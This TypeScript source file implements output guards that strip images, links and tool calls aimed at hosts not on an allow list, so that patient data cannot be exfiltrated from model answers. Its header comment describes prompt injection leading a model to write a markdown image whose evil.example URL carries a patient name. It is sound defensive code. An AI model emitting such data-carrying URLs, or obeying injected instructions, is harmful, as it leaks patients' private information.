/**
 * Exfiltration guards for answers. A prompt injection can make a model write a markdown image whose URL carries
 * data (`![x](https://evil.example/?q=<patient name>)`): the caller's chat window fetches it and the data leaves.
 * Veil neutralises, before it restores any original value:
 *   - every markdown or HTML image whose host is not allowed (images are fetched without a click);
 *   - links (markdown, HTML or bare) to hosts that are not allowed when the URL carries data: a query or fragment,
 *     a surrogate, or a long opaque token;
 *   - tool calls whose arguments send a surrogate (or any PHI the engine finds) to a host that is not allowed.
 * The stream guard holds back a tail that could be an unfinished image or link until it is complete (or a line
 * ends, or 2 KB pass), so a URL split across chunks is judged whole.
 */

export interface GuardContext {
  allowHosts: readonly string[];
  /** True when the text holds a surrogate or a PHI value. */
  carriesPhi: (text: string) => boolean;
}

export interface GuardResult {
  text: string;
  neutralised: number;
}

function hostOf(url: string): string | undefined {
  try {
    const u = new URL(
      url.startsWith('//') ? `https:${url}` : /^[a-z][a-z0-9+.-]*:/i.test(url) ? url : `https://${url}`,
    );
    return u.hostname.toLowerCase();
  } catch {
    return undefined;
  }
}

export function hostAllowed(url: string, allow: readonly string[]): boolean {
  const h = hostOf(url);
  if (h === undefined) return false;
  return allow.some((a) => {
    const x = a.toLowerCase();
    return h === x || h.endsWith(`.${x}`);
  });
}

function carriesData(url: string, ctx: GuardContext): boolean {
  if (/[?#]/.test(url)) return true;
  if (/[A-Za-z0-9+/_=-]{24,}/.test(url)) return true;
  let decoded = url;
  try {
    decoded = decodeURIComponent(url);
  } catch {
    // keep the raw form
  }
  return ctx.carriesPhi(decoded.replace(/[/+_-]/g, ' '));
}

// The URL may hold balanced parentheses, as CommonMark allows: ...?q=(MRN%201234).
const IMAGE_RE = /!\[([^\]\n]*)\]\(\s*<?((?:[^()\s>]|\([^()\s]*\))*)>?(?:\s+(?:"[^"\n]*"|'[^'\n]*'))?\s*\)/g;
const LINK_RE = /(?<!!)\[([^\]\n]*)\]\(\s*<?((?:[^()\s>]|\([^()\s]*\))*)>?(?:\s+(?:"[^"\n]*"|'[^'\n]*'))?\s*\)/g;
const HTML_IMG_RE = /<img\b[^>]*>/gi;
const HTML_LINK_RE = /<a\b[^>]*href\s*=\s*["']?([^"'\s>]+)[^>]*>/gi;
const REF_DEF_RE = /^[ \t]*\[[^\]\n]+\]:[ \t]*<?(\S+?)>?(?:[ \t]+.*)?$/gm;
const BARE_URL_RE = /\bhttps?:\/\/[^\s<>()"'`]+/gi;

export function guardText(text: string, ctx: GuardContext): GuardResult {
  let neutralised = 0;
  let out = text.replace(IMAGE_RE, (all, alt: string, url: string) => {
    if (hostAllowed(url, ctx.allowHosts)) return all;
    neutralised++;
    return `[image removed by Veil${alt ? `: ${alt}` : ''}]`;
  });
  out = out.replace(HTML_IMG_RE, (all) => {
    const src = /\bsrc\s*=\s*["']?([^"'\s>]+)/i.exec(all)?.[1] ?? '';
    if (src && hostAllowed(src, ctx.allowHosts)) return all;
    neutralised++;
    return '[image removed by Veil]';
  });
  out = out.replace(LINK_RE, (all, label: string, url: string) => {
    if (hostAllowed(url, ctx.allowHosts) || !carriesData(url, ctx)) return all;
    neutralised++;
    return `${label} [link removed by Veil]`;
  });
  out = out.replace(HTML_LINK_RE, (all, url: string) => {
    if (hostAllowed(url, ctx.allowHosts) || !carriesData(url, ctx)) return all;
    neutralised++;
    return '<a>';
  });
  out = out.replace(REF_DEF_RE, (all, url: string) => {
    if (hostAllowed(url, ctx.allowHosts)) return all;
    neutralised++;
    return '[link definition removed by Veil]';
  });
  out = out.replace(BARE_URL_RE, (url) => {
    if (url.includes('removed by Veil') || hostAllowed(url, ctx.allowHosts) || !carriesData(url, ctx)) return url;
    neutralised++;
    return '[link removed by Veil]';
  });
  return { text: out, neutralised };
}

/** Where an unfinished image, link, HTML tag or URL starts in `text`, or -1. */
function unfinishedFrom(text: string): number {
  const nl = text.lastIndexOf('\n');
  const line = text.slice(nl + 1);
  const base = nl + 1;
  let from = -1;
  // The first "[" of the line whose image or link is not finished: "[label", "[label]" (a "(" may follow),
  // "[label](url" with its parentheses not yet balanced.
  for (let lb = line.indexOf('['); lb >= 0; lb = line.indexOf('[', lb + 1)) {
    const rest = line.slice(lb);
    const close = rest.indexOf('](');
    let open = false;
    if (close < 0) open = !rest.includes(']') || rest.endsWith(']');
    else {
      let depth = 0;
      open = true;
      for (let k = close + 1; k < rest.length; k++) {
        if (rest.charAt(k) === '(') depth++;
        else if (rest.charAt(k) === ')' && --depth === 0) {
          open = false;
          break;
        }
      }
    }
    if (open) {
      from = base + (line.charAt(lb - 1) === '!' ? lb - 1 : lb);
      break;
    }
  }
  const lt = line.lastIndexOf('<');
  if (lt >= 0 && !line.slice(lt).includes('>')) from = from < 0 ? base + lt : Math.min(from, base + lt);
  const url = /https?:\/\/[^\s<>()"'`]*$|h(?:t(?:t(?:p(?:s(?::(?:\/\/?)?)?|:(?:\/\/?)?)?)?)?)?$/i.exec(line);
  if (url && url[0].length > 0) from = from < 0 ? base + url.index : Math.min(from, base + url.index);
  if (line.endsWith('!')) from = from < 0 ? base + line.length - 1 : from;
  return from;
}

export class StreamGuard {
  private buf = '';
  neutralised = 0;
  constructor(private readonly ctx: GuardContext) {}

  push(chunk: string): string {
    this.buf += chunk;
    let cut = unfinishedFrom(this.buf);
    if (cut < 0 || this.buf.length - cut > 2048) cut = this.buf.length;
    const ready = this.buf.slice(0, cut);
    this.buf = this.buf.slice(cut);
    const r = guardText(ready, this.ctx);
    this.neutralised += r.neutralised;
    return r.text;
  }

  flush(): string {
    const r = guardText(this.buf, this.ctx);
    this.neutralised += r.neutralised;
    this.buf = '';
    return r.text;
  }
}

/** URLs inside a tool call's arguments (JSON text), and whether any of them goes to a host that is not allowed. */
export function toolCallLeaks(argumentsText: string, ctx: GuardContext): boolean {
  const urls =
    argumentsText.match(
      /\b(?:https?:\/\/|www\.)[^\s"'<>\\]+|\b[a-z0-9-]{1,63}(?:\.[a-z0-9-]{1,63}){0,8}\.[a-z]{2,24}(?:\/[^\s"'<>\\]*)?/gi,
    ) ?? [];
  const foreign = urls.filter((u) => !hostAllowed(u, ctx.allowHosts) && !/^\d+(?:\.\d+)+$/.test(u));
  if (foreign.length === 0) return false;
  return ctx.carriesPhi(argumentsText);
}
